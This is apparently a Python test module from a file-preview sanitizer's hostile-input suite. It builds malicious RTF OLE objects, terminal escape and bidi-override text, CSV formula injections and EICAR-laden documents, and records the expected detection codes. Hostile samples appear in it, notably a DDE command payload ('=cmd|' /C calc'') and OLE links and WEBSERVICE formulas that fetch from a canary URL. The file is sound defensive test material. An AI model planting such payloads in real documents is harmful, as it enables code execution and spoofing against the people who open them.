"""Cases 48 to 50 and 53: RTF, text in old encodings, CSV and the antivirus test string."""

from __future__ import annotations

from functools import partial

from tests.hostile.builders import ole, pdf, plain, wordx
from tests.hostile.builders.opc import Part, Rel
from tests.hostile.model import CANARY_URL, OK, Case, codes

OBJECT = codes("embedded_object")
ENCODING = codes("text_encoding")
CONTROL = codes("control_characters")
FORMULA = codes("active_formula")
SCANNER = codes("malware_test_file")
CUT = codes("truncated")


def rtf_package() -> bytes:
    """A packaged program that wants to be refreshed on opening."""
    native = ole.native("setup.exe", plain.executable())
    # OLE 1 keeps the length itself, so the stream's own length field is left out.
    payload = ole.ole1("Package", native[4:])
    words = r"\objemb\objupdate\objw100\objh100{\*\objclass Package}"
    return plain.rtf(plain.rtf_object(payload, words))


def rtf_equation() -> bytes:
    """An equation object, its class name broken up as attackers do."""
    payload = ole.ole1("Equation.3", ole.equation())
    return plain.rtf(plain.rtf_object(payload, r"\objemb\objupdate{\*\objclass Equ{\*\x}ation.3}"))


def rtf_link() -> bytes:
    """A linked object that would be fetched when the file opens."""
    address = f"{CANARY_URL}/a.hta".encode("utf-16-le") + b"\0\0"
    payload = ole.ole1("OLE2Link", address)
    return plain.rtf(plain.rtf_object(payload, r"\objautlink\objupdate\rsltpict"))


def rtf_binary() -> bytes:
    """A binary run whose length is false."""
    return plain.rtf("{\\pict\\pngblip\\bin2147483647 x}")


ESCAPES = (
    b"An ordinary sentence.\n"
    b"\x1b]0;title\x07\x1b[2J\x1b[1;31mred\x1b[0m\n"
    b"\x1b]8;;http://example.invalid/\x1b\\link\x1b]8;;\x1b\\\n"
    b"overwrite\roverwritten\x08\x08\x7f\x9b31m\n"
)
NULS = b"An ordinary sentence.\nwith a\0zero\nand an end.\n" * 20
LONG_LINE = b"0123456789abcdef " * 90_000


def csv_formulas() -> bytes:
    """Cells that a spreadsheet would take for formulas."""
    rows = [
        "name,value",
        '"=HYPERLINK(""http://example.invalid/?""&A1,""click"")",1',
        "=cmd|' /C calc'!A0,2",
        "+1+1,3",
        "-2+3,4",
        "@SUM(1+1),5",
        f'"=WEBSERVICE(""{CANARY_URL}/"")",6',
        "\t=1+1,7",
        "ordinary,8",
    ]
    return "\r\n".join(rows).encode()


def docx_eicar() -> bytes:
    """The test string inside a packaged object of a compressed document."""
    rel = Rel("rId9", "oleObject", "embeddings/oleObject1.bin")
    part = Part("word/embeddings/oleObject1.bin", ole.package("eicar.com", plain.eicar()))
    return wordx.docx(wordx.GREETING + wordx.ole_object("rId9"), [rel], [part])


def pdf_eicar() -> bytes:
    """The test string as a compressed attachment of a PDF."""
    extra = {
        100: b"<< /Type /Filespec /F (eicar.com) /EF << /F 101 0 R >> >>",
        101: pdf.flate(plain.eicar(), "/Type /EmbeddedFile"),
    }
    return pdf.document(root="/Names << /EmbeddedFiles << /Names [(a) 100 0 R] >> >>", extra=extra)


def _text(slug: str, data: bytes, findings: frozenset[str] = ENCODING) -> Case:
    """A text file that must be shown."""
    return Case(49, f"text-{slug}", "a.txt", lambda: data, OK, findings)


CASES = (
    Case(48, "rtf-package", "a.rtf", rtf_package, OK, OBJECT),
    Case(48, "rtf-equation", "a.rtf", rtf_equation, OK, OBJECT),
    Case(48, "rtf-link", "a.rtf", rtf_link, OK, OBJECT),
    Case(
        48,
        "rtf-binary",
        "a.rtf",
        rtf_binary,
        codes("ok damaged render_failed no_pages time_limit memory_limit"),
        note="LibreOffice reads the false length of two gigabytes byte by byte",
        slow=True,
    ),
    _text("gb18030", plain.CHINESE.encode("gb18030")),
    _text("big5", plain.TRADITIONAL.encode("big5")),
    _text("shift-jis", plain.JAPANESE.encode("shift_jis")),
    _text("utf16-no-mark", plain.CHINESE.encode("utf-16-le")),
    _text("utf16-mark", plain.CHINESE.encode("utf-16")),
    _text("broken-utf8", b"An ordinary \xff\xfe\xc0\xaf sentence.\n" * 5),
    _text("nuls", NULS, CONTROL),
    _text("escapes", ESCAPES, CONTROL),
    _text("long-line", LONG_LINE, frozenset()),
    Case(
        49,
        "text-bidi",
        "a.txt",
        lambda: "access = 'user\u202e \u2066// check\u2069 \u2066'\n".encode(),
        OK,
        CONTROL,
    ),
    Case(50, "csv-formulas", "a.csv", csv_formulas, OK, FORMULA),
    Case(50, "csv-many-columns", "a.csv", lambda: b"," * 1_000_000 + b"\n1\n", OK, CUT),
    Case(50, "csv-many-rows", "a.csv", lambda: b"1,2\n" * 400_000, OK, CUT),
    Case(50, "csv-open-quote", "a.csv", lambda: b'"' + b"a,b\n" * 100_000, OK),
    Case(53, "eicar-text", "eicar.txt", plain.eicar, OK, SCANNER),
    Case(53, "eicar-docx", "a.docx", docx_eicar, OK, SCANNER | OBJECT),
    Case(53, "eicar-pdf", "a.pdf", pdf_eicar, OK, SCANNER | codes("embedded_file")),
    Case(
        53,
        "no-eicar-rtf",
        "a.rtf",
        partial(plain.rtf, ""),
        OK,
        note="the clean counterpart: a scanner that flags this flags everything",
    ),
)
